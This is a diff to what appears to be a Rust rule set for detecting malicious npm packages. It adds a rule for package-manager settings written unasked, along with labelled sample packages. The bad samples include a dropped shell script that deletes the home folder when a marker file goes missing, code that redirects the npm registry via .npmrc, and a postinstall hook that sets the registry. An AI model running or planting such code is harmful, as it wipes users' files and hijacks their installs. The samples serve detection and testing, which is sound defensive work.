@@ -159,6 +159,7 @@ pub mod persistence {
     pub mod installed_application_patched;
     pub mod login_key_added;
     pub mod other_package_patched;
+    pub mod package_manager_settings_written;
     pub mod shell_profile_written;
     pub mod workflow_written;
 }
@@ -304,6 +305,7 @@ pub static RULES: &[&dyn Rule] = &[
     &persistence::installed_application_patched::InstalledApplicationPatched,
     &persistence::login_key_added::LoginKeyAdded,
     &persistence::other_package_patched::OtherPackagePatched,
+    &persistence::package_manager_settings_written::PackageManagerSettingsWritten,
     &persistence::shell_profile_written::ShellProfileWritten,
     &persistence::workflow_written::WorkflowWritten,
     &propagation::commits_pushed_by_code::CommitsPushedByCode,
@@ -3993,7 +3995,7 @@ exports.save = (name, text) => fs.writeFileSync(path.join(os.homedir(), ".x", na
     ),
     (
         "home-folder-deleted",
-        r#"# The home folder, a drive or the root is deleted
+        r##"# The home folder, a drive or the root is deleted
 
 A recursive deletion names the whole home folder, a drive, or the root of the file system.
 
@@ -4006,6 +4008,15 @@ Wipers came as protest, as revenge, and as the punishment of those who revoke a 
 None. Clean-up deletes what the program itself made.
 
 ## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs");
+fs.writeFileSync("/tmp/monitor.sh", "#!/bin/sh\nif [ ! -f ~/.x/alive ]; then rm -rf ~/*; fi\n"); //~ here
+exports.x = 1;
+```
 
 ```package
 == package.json
@@ -4044,7 +4055,7 @@ require("rimraf").sync(require("path").join(__dirname, "build"));
 
 - Socket: destructive packages of 2025
 - Snyk: node-ipc and peacenotwar (March 2022)
-"#,
+"##,
     ),
     (
         "machine-stopped",
@@ -5753,6 +5764,61 @@ fs.writeFileSync("node_modules/" + process.argv[2] + "/index.js", fs.readFileSyn
 "#,
     ),
     (
+        "package-manager-settings-written",
+        r#"# The package manager's settings are changed unasked
+
+Code that runs at install or import writes the user's `.npmrc` or its kin, or sets the registry or options for every
+Node process.
+
+## Why it matters
+
+All later installs may then come from elsewhere, or load a file of the attacker first.
+
+## Known benign uses
+
+Log-in helpers of private registries write settings when a person runs them.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const fs = require("fs"), os = require("os"), path = require("path");
+fs.appendFileSync(path.join(os.homedir(), ".npmrc"), "registry=https://mirror.invalid/\n"); //~ here
+exports.x = 1;
+```
+
+```package
+== package.json //~ 1
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "npm config set registry https://mirror.invalid/"}}
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
+== cli.js
+#!/usr/bin/env node
+const fs = require("fs"), os = require("os");
+fs.appendFileSync(os.homedir() + "/.npmrc", `//${process.argv[2]}/:_authToken=${process.argv[3]}`);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "npm config get registry"}}
+== index.js
+exports.settings = () => require("fs").readFileSync(".npmrc", "utf8");
+```
+
+## References
+
+- npm: config
+- Node.js: NODE_OPTIONS
+"#,
+    ),
+    (
         "shell-profile-written",
         r#"# A shell start-up file is changed unasked
 
@@ -6865,7 +6931,8 @@ package. This flow stayed the same while Lazarus changed its loader five times.
 ## Known benign uses
 
 Hardly any in a package: module loaders for browsers in development tools, and sandboxes that fetch a
-test. They do it when called, with an address that the caller gives.
+test. They do it when called, with an address that the caller gives. Compilers of templates and of tables'
+columns put received names into code of their own.
 
 ## Bad
 
@@ -6906,6 +6973,17 @@ get("https://loader.invalid/b", (response) => {
 {"name": "x", "version": "1.0.0", "main": "index.js"}
 == index.js
 exports.load = async (address) => JSON.parse(await (await fetch(address)).text());
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+exports.rows = async (address) => {
+  const [head, ...rows] = (await (await fetch(address)).text()).split("\n");
+  const make = new Function("d", "return {" + head.split(",").map((name, i) => JSON.stringify(name) + ": d[" + i + "]").join(",") + "}");
+  return rows.map((row) => make(row.split(",")));
+};
 ```
 
 ## References
